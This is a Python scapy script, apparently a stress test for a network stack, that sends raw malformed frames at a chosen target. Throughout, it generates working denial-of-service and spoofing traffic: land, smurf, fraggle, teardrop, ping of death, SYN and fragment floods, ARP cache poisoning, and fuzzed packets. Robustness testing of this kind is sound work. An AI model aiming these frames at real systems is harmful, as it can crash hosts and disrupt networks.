"""What no good stack sends, at a stack that has to bear it (scapy). Sent as frames, so that the kernel cannot mend them.

    hostile-packets.py INTERFACE OUR-MAC OUR-ADDRESS SEED      prints how many frames were sent
"""

import random
import socket
import sys

from scapy.all import (
    ARP,
    ICMP,
    IP,
    TCP,
    UDP,
    Dot1Q,
    Ether,
    IPOption,
    Raw,
    conf,
    get_if_hwaddr,
    raw,
)

conf.verb = 0


def ip(**fields):
    return Ether(src=HERE, dst=THERE) / IP(src="10.9.0.1", dst=TARGET, **fields)


def frames():
    # Land: a segment from the target to itself, and from other places that nobody is
    for source in (TARGET, "127.0.0.1", "0.0.0.0", "255.255.255.255", "10.9.0.255", "224.0.0.1", "240.0.0.1"):
        yield Ether(src=HERE, dst=THERE) / IP(src=source, dst=TARGET) / TCP(sport=80, dport=80, flags="S")
        yield Ether(src=HERE, dst=THERE) / IP(src=source, dst=TARGET) / UDP(sport=7, dport=7) / b"again"
        yield Ether(src=HERE, dst=THERE) / IP(src=source, dst=TARGET) / ICMP() / b"echo"
    # To groups and broadcasts
    for target, station in (("10.9.0.255", "ff:ff:ff:ff:ff:ff"), ("224.0.0.1", "01:00:5e:00:00:01")):
        yield Ether(src=HERE, dst=station) / IP(src="10.9.0.1", dst=target) / TCP(dport=80, flags="S")
        yield Ether(src=HERE, dst=station) / IP(src="10.9.0.1", dst=target) / ICMP() / b"smurf"
        yield Ether(src=HERE, dst=station) / IP(src="10.9.0.1", dst=target) / UDP(sport=19, dport=7) / b"fraggle"
    # Christmas trees: every set of flags, at an open port and a closed one
    for flags in range(256):
        for port in (80, 4711):
            yield ip() / TCP(sport=1024 + flags, dport=port, flags=flags, seq=CHANCE.getrandbits(32), ack=CHANCE.getrandbits(32))
    # TCP headers that lie about their length, and options that do
    for offset in range(16):
        yield ip() / TCP(dport=80, flags="S", dataofs=offset) / (b"\x02\x04\x05\xb4" * 3)
    for octets in (b"\x02\x00", b"\x02\x01", b"\x02\x03\x05\x01", b"\x02\xff\x05\xb4", b"\x03\x03\xff\x01", b"\x05\x02\x01\x00",
                   b"\x05\x0b" + b"\xff" * 9 + b"\0", b"\x08\x0a\xff\xff", b"\x01" * 40, b"\xfd\x04\0\0", b"\x1e\x01\0\0"):
        padded = octets + b"\0" * (-len(octets) % 4)
        yield ip() / Raw(tcp_with_options(padded))
    # IP headers that lie
    for fields in ({"ihl": 0}, {"ihl": 4}, {"ihl": 15}, {"version": 6}, {"len": 0}, {"len": 19}, {"len": 65535}, {"chksum": 1},
                   {"proto": 255}, {"ttl": 0}, {"flags": 7, "frag": 0x1FFF}):
        yield ip(**fields) / ICMP() / b"lies"
    # IP options: good ones, broken ones, routes that lead back
    for octets in (b"\x07\x27\x04" + b"\0" * 37, b"\x07\x03\x03\x00", b"\x07\x00\x00\x00", b"\x44\x28\x05\x00" + b"\0" * 36,
                   b"\x83\x0b\x04" + bytes([10, 9, 0, 2, 10, 9, 0, 2]) + b"\0", b"\x89\x07\xff\x0a\x09\x00\x02\0", b"\x94\x04\0\0",
                   b"\x82\xff\0\0", b"\x01\x01\x01\x44"):
        yield ip(options=IPOption(octets)) / ICMP(id=7) / b"options"
    if BEGINNING:
        yield from fragments()
    # ICMP: every type and code with nothing, with rubbish, and quoting what was never sent
    for kind in range(0, 45):
        for code in (0, 1, 4, 13, 255):
            yield ip() / ICMP(type=kind, code=code) / Raw(b"\x45" * CHANCE.randrange(0, 40))
    for code in range(16):
        quoted = IP(src=TARGET, dst="10.9.0.1") / TCP(sport=80, dport=1024, seq=CHANCE.getrandbits(32))
        yield ip() / ICMP(type=3, code=code, nexthopmtu=CHANCE.choice((0, 1, 67, 68, 296, 65535))) / quoted
    # UDP that lies about its length, to ports open and closed
    for length in (0, 7, 8, 9, 65535):
        for port in (7, 19, 4711):
            yield ip() / UDP(sport=9999, dport=port, len=length) / b"length"
    # ARP: gratuitous, for our own address, from a group, of other hardware, cut short
    for fields in ({"op": 1, "psrc": TARGET, "pdst": TARGET}, {"op": 2, "psrc": TARGET, "pdst": "10.9.0.1"}, {"op": 77},
                   {"hwsrc": "ff:ff:ff:ff:ff:ff", "psrc": "10.9.0.9"}, {"hwtype": 6}, {"hwlen": 255}, {"plen": 16}):
        yield Ether(src=HERE, dst="ff:ff:ff:ff:ff:ff") / ARP(**{"pdst": TARGET, **fields})
    for number in range(300):
        yield Ether(src=HERE, dst=THERE) / ARP(op=2, hwsrc="02:00:00:00:%02x:%02x" % divmod(number, 256),
                                               psrc="10.9.0.%d" % (10 + number % 200), pdst=TARGET)
    # Tags, wrong types, cut frames
    yield Ether(src=HERE, dst=THERE) / Dot1Q(vlan=7) / IP(src="10.9.0.1", dst=TARGET) / ICMP()
    yield Ether(src=HERE, dst=THERE) / Dot1Q() / Dot1Q() / IP(src="10.9.0.1", dst=TARGET) / ICMP()
    for kind in (0, 46, 0x05FF, 0x0800, 0x0806, 0x8100, 0x86DD, 0xFFFF):
        for length in (0, 1, 3, 19, 27, 46):
            yield Ether(src=HERE, dst=THERE, type=kind) / Raw(b"\x45" * length)
    # SYNs that nobody ends
    for number in range(400):
        yield ip() / TCP(sport=2048 + number, dport=80, flags="S", seq=CHANCE.getrandbits(32), options=[("MSS", CHANCE.choice((1, 536, 1460)))])
    # Good packets with octets changed, and cut off
    good = [raw(packet) for packet in good_packets()]
    for _ in range(5000):
        octets = bytearray(CHANCE.choice(good))
        for _ in range(CHANCE.randrange(1, 6)):
            octets[CHANCE.randrange(12, len(octets))] = CHANCE.getrandbits(8)
        yield bytes(octets[: CHANCE.choice((len(octets), CHANCE.randrange(14, len(octets) + 1)))])


def fragments():
    """What is left of these is held for a minute (RFC 1122 3.3.2): only the first run sends them."""
    # Ping of death: fragments that reach beyond 65,535 octets; and the largest that do not
    yield ip(id=1, flags=1, frag=0) / ICMP() / (b"d" * 1000)
    yield ip(id=1, flags=0, frag=8189) / Raw(b"d" * 1000)
    # Teardrop: overlaps of all kinds, the same piece twice with other octets, no first, no last, pieces of one octet
    for number, pieces in enumerate((
        ((0, 1, 800), (50, 0, 800)), ((0, 1, 800), (0, 1, 400), (100, 0, 100)), ((0, 1, 8), (0, 0, 800)), ((100, 0, 80), (0, 1, 1200)),
        ((1, 1, 8), (3, 1, 8), (5, 1, 8)), ((0, 1, 7), (1, 0, 9)), ((0, 1, 0), (0, 0, 0)), ((0, 1, 1400), (175, 1, 1400), (10, 0, 8)),
    )):
        for offset, more, length in pieces:
            yield ip(id=100 + number, flags=more, frag=offset, proto=17) / Raw(bytes(CHANCE.getrandbits(8) for _ in range(length)))
    # More datagrams begun than a stack can hold, none of them ended
    for number in range(400):
        yield ip(id=1000 + number, flags=1, frag=CHANCE.randrange(8000), proto=CHANCE.choice((1, 6, 17))) / Raw(b"f" * 1400)


def good_packets():
    for port in (7, 80, 23):
        for flags in ("S", "A", "PA", "FA", "R", "SA"):
            options = [("Timestamp", (1, 2)), ("SAckOK", b""), ("WScale", 7)]
            yield ip() / TCP(sport=CHANCE.randrange(65536), dport=port, flags=flags, seq=CHANCE.getrandbits(32), options=options) / b"data"
    for length in (0, 1, 50, 100):
        yield ip() / UDP(sport=53, dport=7) / (b"u" * length)
        yield ip() / ICMP() / (b"i" * length)
        if BEGINNING:
            yield ip(flags=1, frag=length) / ICMP() / (b"f" * 80)
        yield Ether(src=HERE, dst=THERE) / ARP(pdst=TARGET)


def tcp_with_options(options):
    header = TCP(sport=3333, dport=80, flags="S", seq=1, dataofs=5 + len(options) // 4)
    return raw(header) + options


if __name__ == "__main__":
    interface, THERE, TARGET, seed = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    CHANCE = random.Random(seed)
    BEGINNING = seed == 1
    HERE = get_if_hwaddr(interface)
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    sent = 0
    for frame in frames():
        octets = raw(frame)
        if len(octets) < 14:
            octets += b"\0" * (14 - len(octets))
        wire.send(octets[:1514])
        sent += 1
    print("%d frames sent" % sent)
